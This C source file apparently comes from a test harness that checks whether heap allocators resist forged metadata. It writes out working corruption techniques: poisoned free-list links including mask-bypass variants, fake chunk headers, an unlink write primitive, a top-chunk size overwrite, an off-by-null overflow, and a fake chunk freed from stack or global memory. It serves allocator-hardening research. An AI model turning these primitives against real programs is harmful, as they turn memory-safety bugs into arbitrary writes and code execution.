// Forged metadata: writes to the places where some allocators keep theirs, then the question of whether malloc returns
// an address of the attacker's choice, or overlapping blocks.
//
// Each forgery is written for a way in which allocators are built: lists through freed blocks (plain, masked by the
// address of the list, masked by a secret that a read reveals), headers in front of blocks, boundary tags, the rest of
// the heap behind the last block, headers of pages. Where an allocator has nothing there, nothing happens.
#include "attack.h"
#include <malloc.h>
#include <stdlib.h>
#include <string.h>

#define FREED 6
#define FORGED_WORDS 8
#define PAGE_BITS 12

// The blocks that are freed, in their order, and a live one of the same class that belongs to another owner.
static uintptr_t *freed[FREED];
static char *prey;

static void free_some(void *(*way)(operation, void *, size_t)) {
    crowd(neighbours());
    for (int i = 0; i < FREED; i++) freed[i] = owned(size);
    prey = owned(size);
    crowd(neighbours());
    for (int i = 0; i < FREED; i++) forget(freed[i]), way(op_free, freed[i], 0);
}

// The mask of a block's link, if it links to the block that was freed just before it.
static uintptr_t mask(int i) { return freed[i][0] ^ (uintptr_t)freed[i - 1]; }

static uintptr_t forged(int i) {
    uintptr_t *block = freed[i], address = (uintptr_t)block >> PAGE_BITS;
    switch (argument) {
    case NEXT_SHIFTED: case NEXT_SHIFTED_EVERYWHERE: return TARGET ^ address;
    case NEXT_DERIVED: return TARGET ^ mask(i);
    case NEXT_LIVE: case NEXT_LIVE_EVERYWHERE: return (uintptr_t)prey;
    case NEXT_LIVE_SHIFTED: return (uintptr_t)prey ^ address;
    case NEXT_LIVE_DERIVED: return (uintptr_t)prey ^ mask(i);
    case NEXT_ITSELF: return (uintptr_t)block;
    case NEXT_ITSELF_DERIVED: return (uintptr_t)block ^ mask(i);
    case NEXT_COPIED: return freed[i - 1][0];
    case NEXT_LOW_BYTE: return block[0] ^ 16;
    case NEXT_ZERO: return 0;
    case NEXT_WILD: return 0x4141414141414140;
    default: return TARGET;
    }
}

// Writes into every second of the freed blocks: those between stay as they are.
static void *forge_links(void *unused, size_t n) {
    int everywhere = argument == NEXT_TARGET_EVERYWHERE || argument == NEXT_SHIFTED_EVERYWHERE
        || argument == NEXT_LIVE_EVERYWHERE;
    for (int i = 1; i < FREED; i += 2) {
        uintptr_t value = forged(i);
        for (size_t word = 0; word < (everywhere ? FORGED_WORDS : 1) && word < n / 8; word++) freed[i][word] = value;
    }
    return unused;
}

void forge_next(void) {
    free_some(there);
    MISUSE(here(forge_links, NULL, size));
    aftermath();
}

// The thread that freed the blocks ends afterwards.
void forge_ended(void) {
    free_some(in_passing);
    MISUSE(here(forge_links, NULL, size));
    aftermath();
}

static void *forge_words(void *block, size_t unused) {
    volatile uintptr_t *header = (uintptr_t *)block - 2;
    uintptr_t *larger = (void *)prey;
    (void)unused;
    switch (argument) {
    case HEADER_LARGER: header[1] = (round16(size + 8) * 3) | 1; break;
    case HEADER_MINUS_ONE: header[0] = header[1] = ~(uintptr_t)0; break;
    case HEADER_ZERO: header[0] = header[1] = 0; break;
    case HEADER_COPIED: header[0] = larger[-2], header[1] = larger[-1]; break;
    case HEADER_MAPPED: header[0] = 0, header[1] = (header[1] & ~(uintptr_t)4095) | 4096 | 2; break;
    default: header[0] = header[1] = TARGET;
    }
    return NULL;
}

// The words in front of a block; that they may belong to the block before is not the question here.
void forge_header(void) {
    other_size = size * 3;
    void *block = victim();
    prey = owned(size * 3);
    may_change = 1;
    MISUSE(there(forge_words, block, 0));
    release(block);
    aftermath();
}

// A header that makes the block look larger than it is, to be used by a program that asks for its usable size.
void forge_usable_size(void) {
    void *block = victim();
    size_t whole = malloc_usable_size(block), usable = 0;
    argument = HEADER_LARGER;
    may_change = 1;
    prey = block;
    MISUSE(there(forge_words, block, 0));
    usable = malloc_usable_size(block);
    if (usable > whole) missed("the usable size reaches beyond the block");
    aftermath();
}

// A free block of a list with two links, inside a live block: an allocator that unlinks it writes to the slot.
static uintptr_t *slot[8];

static void *forge_free_block(void *block, size_t n) {
    uintptr_t *words = block, fake = n & ~(size_t)15;
    words[0] = 0, words[1] = fake | 1;
    words[2] = (uintptr_t)&slot[4] - 24, words[3] = (uintptr_t)&slot[4] - 16;
    words[fake / 8] = fake;
    words[fake / 8 + 1] &= ~(uintptr_t)1;
    return NULL;
}

void forge_unlink(void) {
    size = (size | 15) - 7;
    uintptr_t *block = victim(), *next = NULL;
    size_t usable = malloc_usable_size(block);
    for (int i = 0; i < 64 && !next; i++) {
        uintptr_t *other = owned(size);
        if ((char *)other - (char *)block == (ptrdiff_t)usable + 8) next = other;
        else if (!next) block = other;
    }
    if (!next) next = owned(size);
    slot[4] = block;
    may_change = 1;
    MISUSE(there(forge_free_block, block, usable - 8));
    release(next);
    if (slot[4] != block) missed("the allocator wrote to an address of the attacker's choice");
    aftermath();
}

// The size of what is left of the heap, behind the last block; then a block so large that the next lies in the zone.
static void *forge_rest(void *block, size_t usable) {
    for (size_t word = 0; word < 3; word++) *(volatile uintptr_t *)((char *)block + usable + 8 * word) = ~(uintptr_t)0;
    return NULL;
}

void forge_top(void) {
    char *last = victim();
    for (int i = 0; i < 64; i++) {
        char *other = owned(size);
        if (other > last) last = other;
    }
    size_t usable = malloc_usable_size(last) & ~(size_t)7;
    may_change = 1;
    MISUSE({
        there(forge_rest, last, usable);
        size_t distance = TARGET - (uintptr_t)last - usable - 64;
        here(op_malloc, NULL, distance);
    });
    aftermath();
}

// A string that ends one byte too late clears the byte that says whether the block before is in use.
void forge_off_by_null(void) {
    size = (size | 255) - 7;
    uintptr_t *first = victim(), *second = NULL, *third = NULL;
    for (int i = 0; i < 64 && !third; i++) {
        uintptr_t *other = owned(size);
        if (second && (char *)other - (char *)second == (char *)second - (char *)first) third = other;
        else if (second) first = second, second = other;
        else second = other;
    }
    if (!third) third = owned(size);
    size_t usable = malloc_usable_size(second);
    uintptr_t distance = (uintptr_t)third - 16 - (uintptr_t)first;
    other_size = size * 2;
    may_change = 1;
    MISUSE({
        first[0] = 0, first[1] = distance | 1, first[2] = first[3] = (uintptr_t)first;
        *(uintptr_t *)((char *)second + usable - 8) = distance;
        *((char *)second + usable) = 0;
    });
    release(third);
    aftermath();
}

// A block that never was, with a header and that of its neighbour, is freed so that malloc returns it.
static void *spirit(uintptr_t *words, size_t most) {
    size_t chunk = round16(size + 8), start = 8;
    words[start - 1] = chunk | 1;
    size_t next = start - 2 + chunk / 8;
    if (next + 1 < most) words[next + 1] = 0x21;
    return &words[start];
}

void forge_spirit(void) {
    enum { WORDS = 4096 };
    uintptr_t stack[WORDS] __attribute__((aligned(64)));
    victim();
    memset(stack, 0, sizeof stack);
    may_change = 1;
    zone_changes();
    void *block;
    if (argument == SPIRIT_GLOBAL) block = spirit(zone, ZONE_WORDS);
    else if (argument == SPIRIT_STACK) block = spirit(stack, WORDS);
    else block = spirit(owned(size * 4), size / 2);
    MISUSE(there(op_free, block, 0));
    for (unsigned i = harvest_count(size); i > 0; i--)
        if (there(op_malloc, NULL, size) == block) missed("malloc returned an address of the attacker's choice");
    aftermath();
}

// A page or a span may begin with a header: the bytes in front of the lowest of many blocks.
static void *forge_page(void *block, size_t n) {
    for (size_t word = 1; word <= n / 8; word++) ((volatile uintptr_t *)block)[-(ptrdiff_t)word] = TARGET;
    return NULL;
}

void forge_before_first(void) {
    enum { COUNT = 600 };
    char *lowest = victim();
    for (int i = 0; i < COUNT && (size_t)i * size < ((size_t)4 << 20); i++) {
        char *other = owned(size);
        if (other < lowest) lowest = other;
    }
    may_change = 1;
    MISUSE(there(forge_page, lowest, argument));
    release(lowest);
    for (int i = 0; i < 64; i++) release(owned(size));
    aftermath();
}
